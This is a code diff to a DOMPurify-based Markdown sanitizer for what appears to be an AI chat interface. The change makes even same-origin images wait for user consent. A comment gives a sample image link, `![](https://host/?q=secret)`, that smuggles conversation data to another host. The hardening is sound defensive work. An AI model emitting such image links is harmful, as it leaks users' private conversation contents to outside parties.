@@ -6,7 +6,8 @@ import DOMPurify from 'dompurify';
  * undo it). Only the elements Markdown produces are allowed; links open in a new tab without an
  * opener or a referrer; `javascript:`/`data:` links lose their target; a remote image becomes a
  * placeholder with a "load image" button, because an image URL is a way to send the conversation
- * to another host (`![](https://host/?q=secret)`).
+ * to another host (`![](https://host/?q=secret)`); this site's own images wait for consent too, as
+ * the model chose them.
  */
 const purify = DOMPurify(window);
 
@@ -95,7 +96,6 @@ function guardLink(link: Element): void {
 function guardImage(image: Element): void {
   const src = image.getAttribute('src');
   const url = src === null ? null : safeUrl(src);
-  if (url && url.origin === location.origin) return;
   const doc = image.ownerDocument;
   const holder = doc.createElement('span');
   holder.className = 'remote-image';
